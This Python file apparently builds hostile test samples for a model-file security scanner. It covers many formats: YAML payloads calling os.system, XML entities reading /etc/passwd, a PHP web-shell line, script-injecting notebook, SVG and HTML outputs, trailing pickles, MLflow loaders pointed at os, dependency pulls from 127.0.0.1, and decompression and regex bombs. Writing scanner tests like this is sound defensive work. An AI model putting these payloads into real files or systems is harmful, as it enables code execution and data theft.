def _documents() -> Iterator[tuple[str, str, bytes | dict[str, bytes]]]:
    for label, source in NOTEBOOKS.items():
        yield "notebook", label, _notebook(source)
    yield (
        "notebook",
        "output-script",
        _notebook(
            "1", [{"output_type": "display_data", "data": {"text/html": ["<script>fetch('http://127.0.0.1')</script>"]}, "metadata": {}}]
        ),
    )
    yield (
        "notebook",
        "output-javascript",
        _notebook("1", [{"output_type": "display_data", "data": {"application/javascript": ["alert(1)"]}, "metadata": {}}]),
    )
    yield (
        "notebook",
        "output-iframe",
        _notebook("1", [{"output_type": "display_data", "data": {"text/html": ["<iframe src='javascript:alert(1)'>"]}, "metadata": {}}]),
    )
    yield "notebook", "markdown-script", _notebook("<img src=x onerror=alert(1)>", kind="markdown")
    for label, text in {
        "apply": "!!python/object/apply:os.system ['touch /tmp/x']", "new": "a: !!python/object/new:os.system ['x']", "name": "f: !!python/name:os.system", "module": "m: !!python/module:os",
        "long-tag": "!<tag:yaml.org,2002:python/object/apply:os.system> ['x']", "declared-tag": "%TAG !e! tag:yaml.org,2002:python/object/\n--- !e!apply:os.system ['x']", "hydra": "model:\n  _target_: os.system\n  command: x",
        "hydra-partial": "model:\n  _target_: subprocess.Popen\n  _partial_: true\n  args: [x]", "second-document": "a: 1\n---\n!!python/object/apply:os.system ['x']", "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)),
        "ruby": "--- !ruby/object:Gem::Installer\ni: x", "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
    }.items():  # fmt: skip
        yield "yaml", label, text.encode() + b"\n"
    pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">{}</PMML>'
    yield (
        "pmml",
        "entity",
        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + pmml.format("<Header>&e;</Header>")).encode(),
    )
    yield (
        "pmml",
        "laughs",
        (
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            + pmml.format("<Header>&b;</Header>")
        ).encode(),
    )
    yield (
        "pmml",
        "xinclude",
        pmml.format('<Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/></Header>').encode(),
    )
    yield "pmml", "script", pmml.format('<Header/><DataDictionary/><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>').encode()
    yield (
        "openvino",
        "extension",
        {
            "model.xml": b'<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="a" type="MyOp" version="extension"><data implements="../../evil.so"/></layer></layers><edges/></net>',
            "model.bin": bytes(8),
        },
    )
    yield (
        "openvino",
        "offset-outside",
        {
            "model.xml": b'<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="a" type="Const" version="opset1"><data element_type="f32" shape="2" offset="999999" size="8"/><output><port id="0" precision="FP32"><dim>2</dim></port></output></layer></layers><edges/></net>',
            "model.bin": bytes(8),
        },
    )
    yield (
        "openvino",
        "entity",
        {
            "model.xml": b'<!DOCTYPE net [<!ENTITY e SYSTEM "file:///etc/passwd">]><net name="&e;" version="11"><layers/><edges/></net>',
            "model.bin": b"",
        },
    )
    yield "xml", "stylesheet", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1/x.xsl"?><a/>'
    yield (
        "xgboost",
        "json-trailing-pickle",
        b'{"learner":{"gradient_booster":{"model":{},"name":"gbtree"},"learner_model_param":{}},"version":[2,0,0]}' + EVIL,
    )
    yield "xgboost", "ubjson-length", b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x01aSL\x7f\xff\xff\xff\xff\xff\xff\xffx"
    yield "xgboost", "ubjson-deep", b"{i\x07learner" + b"[" * 200_000
    yield (
        "lightgbm",
        "trailing-pickle",
        b"tree\nversion=v4\nnum_class=1\n\nend of trees\n\nparameters:\nend of parameters\n\npandas_categorical:null\n" + EVIL,
    )
    yield "msgpack", "ext-pickle", b"\x82\xa1a\xc7" + bytes([len(EVIL)]) + b"\x50" + EVIL + b"\xa1b\x01"
    yield "msgpack", "deep", b"\x91" * 200_000 + b"\xc0"
    yield "msgpack", "length", b"\x81\xa1a\xdd\xff\xff\xff\xff"
    yield "parquet", "python-extension", _parquet_extension()
    yield "parquet", "trailing", _parquet_extension("x")[:-4] + b"PAR2"
    yield "parquet", "prefix", b"x" + _parquet_extension("x")
    yield "arrow", "python-extension", _arrow_extension()
    yield "arrow", "truncated", _arrow_extension()[:-40]
    yield (
        "mlflow",
        "loader-module",
        {"MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n    data: x\n    env: conda.yaml\n", "conda.yaml": b"name: x\n"},
    )
    yield (
        "mlflow",
        "code",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n    python_model: p.pkl\n",
            "code/evil.py": b"import os\nos.system('x')\n",
            "p.pkl": whole(plain([1])),
        },
    )
    yield (
        "mlflow",
        "model-code-path",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: m.py\n",
            "m.py": b"import os\nos.system('x')\n",
        },
    )
    yield (
        "mlflow",
        "path-outside",
        {
            "MLmodel": b"flavors:\n  sklearn:\n    pickled_model: ../../../tmp/x.pkl\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n"
        },
    )
    yield (
        "mlflow",
        "requirements",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.xgboost\n    data: m.json\n    env:\n      virtualenv: python_env.yaml\n",
            "m.json": b"{}",
            "requirements.txt": b"--extra-index-url http://127.0.0.1/\nevil @ http://127.0.0.1/x.whl\n",
            "python_env.yaml": b"dependencies: ['-r requirements.txt']\n",
        },
    )
    yield "mlflow", "yaml-object", {"MLmodel": b"flavors: !!python/object/apply:os.system ['x']\n"}
    yield "python", "source", b"import os\nos.system('touch /tmp/x')\n"
    yield "image", "png-trailing-pickle", _png() + EVIL
    yield "image", "png-zip", _png() + torch_zip(EVIL)
    yield "image", "svg-script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "text", "html", b"<html><script>alert(1)</script></html>"
    yield "text", "php", b"<?php system($_GET['x']); ?>"
    yield "webdataset", "python-member", tarred({"000.png": _png(), "000.py": b"import os\nos.system('x')\n"})
    yield "webdataset", "svg-member", tarred({"000.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'})
    yield "tokenizer", "pickle", b'{"version": "1.0"}' + EVIL
    yield (
        "tokenizer",
        "regex-bomb",
        _js(
            {
                "version": "1.0",
                "added_tokens": [],
                "normalizer": {"type": "Replace", "pattern": {"Regex": "(a+)+" * 40 + "$"}, "content": ""},
                "pre_tokenizer": None,
                "model": {"type": "BPE", "vocab": {}, "merges": []},
            }
        ),
    )


def _png() -> bytes:
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def _extended(named: str) -> pa.Table:
    inside = {b"ARROW:extension:name": named.encode(), b"ARROW:extension:metadata": EVIL}
    return pa.table({"x": pa.array([1, 2], pa.int64())}, schema=pa.schema([pa.field("x", pa.int64(), metadata=inside)]))


def _parquet_extension(named: str = "arrow.py_extension_type") -> bytes:
    out = io.BytesIO()
    pq.write_table(_extended(named), out)
    return out.getvalue()


def _arrow_extension() -> bytes:
    table = _extended("arrow.py_extension_type")
    out = io.BytesIO()
    with pa.ipc.new_file(out, table.schema) as writer:
        writer.write_table(table)
    return out.getvalue()


def items() -> Iterator[Item]:
    """All of it."""
    for technique, content in _gguf():
        yield Item("m.gguf", "gguf", f"gguf:{technique}", content, pickled=False)
    for technique, folder in _hugging_face():
        yield Item(
            "f", "hf-repo", f"hf:{technique}", folder, pickled=technique in ("shard-is-a-pickle", "flax-msgpack-pickle", "rust-model-npz")
        )
    for form, technique, file in _keras():
        yield Item("m." + ("keras" if form == "keras-v3" else "h5"), form, f"keras:{technique}", file, pickled=False)
    for technique, folder in _tensorflow():
        yield Item("f", "tf-savedmodel", f"tf:{technique}", folder, pickled=False)
    for technique, content in _onnx():
        yield Item("m.onnx", "onnx", f"onnx:{technique}", content, pickled=False)
    for technique, content in _safetensors():
        yield Item("m.safetensors", "safetensors", f"safetensors:{technique}", content, pickled=False)
    for form, technique, thing in _documents():
        yield Item("f" if isinstance(thing, dict) else "x", form, f"{form}:{technique}", thing, pickled=False)
